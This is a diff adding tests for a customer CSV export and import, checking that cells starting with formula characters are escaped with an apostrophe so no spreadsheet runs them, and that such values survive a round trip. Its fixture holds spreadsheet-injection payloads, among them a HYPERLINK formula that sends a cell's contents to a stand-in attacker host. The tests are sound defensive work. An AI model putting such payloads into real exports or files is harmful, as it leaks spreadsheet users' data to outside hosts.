@@ -117,6 +117,67 @@ def test_export_columns_and_values(db: Database) -> None:
     }
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Daw Mya")',
+    "email": "=cmd@example.com",
+    "tags": ["@vip", "-10% club"],
+    "attributes": {"=plate": "+95 1/AB 1234", "note": "@SUM(A1:A9)", "delta": -5},
+}
+
+
+def _formula_customer(db: Database, shop: Shop) -> None:
+    make_customer(db, shop, phone="+95 9 7812 34599", **FORMULAS)
+
+
+def test_export_writes_formula_like_text_so_no_spreadsheet_runs_it(db: Database) -> None:
+    shop = make_merchant(db)
+    _formula_customer(db, shop)
+    out = io.StringIO()
+    importer.export_csv(db, shop.ctx, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+
+    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
+    assert header[-3:] == ["'=plate", "delta", "note"]
+    assert row["name"] == "'" + FORMULAS["name"]
+    assert row["email"] == "'=cmd@example.com"
+    assert row["tags"] == "'@vip; -10% club"
+    assert (row["'=plate"], row["note"], row["delta"]) == ("'+95 1/AB 1234", "'@SUM(A1:A9)", "'-5")
+    assert row["phone"] == "+959781234599"  # E.164 stays as it is: a number, not a formula
+    for cell in rows[1]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == row["phone"]
+
+
+def test_formula_like_text_round_trips_through_export_and_import(
+    db: Database, tmp_path: Path
+) -> None:
+    a = make_merchant(db, name="A Shop")
+    b = make_merchant(db, name="B Shop")
+    _formula_customer(db, a)
+    out = io.StringIO()
+    importer.export_csv(db, a.ctx, out)
+    path = tmp_path / "export.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+
+    summary = importer.import_file_cli(db, b.ctx, path, merge=False, report_path=None)
+
+    assert (summary["imported"], summary["rejected"]) == (1, 0), summary
+    (got,) = profiles(db, b)
+    assert got["name"] == FORMULAS["name"]
+    assert got["email"] == "=cmd@example.com"
+    assert got["tags"] == ["@vip", "-10% club"]
+    assert got["attributes"] == {"=plate": "+95 1/AB 1234", "note": "@SUM(A1:A9)", "delta": "-5"}
+
+
+def test_an_apostrophe_typed_before_ordinary_text_is_kept(db: Database, tmp_path: Path) -> None:
+    shop = make_merchant(db)
+    path = tmp_path / "typed.csv"
+    path.write_text("name,phone\n'Tis Cafe,09 7812 34590\n", encoding="utf-8")
+
+    importer.import_file_cli(db, shop.ctx, path, merge=False, report_path=None)
+
+    assert [p["name"] for p in profiles(db, shop)] == ["'Tis Cafe"]
+
+
 def test_export_leaves_out_erased_customers_and_is_audited(db: Database) -> None:
     shop = make_merchant(db)
     keep = make_customer(db, shop, name="Keep", phone="09 7812 34567")
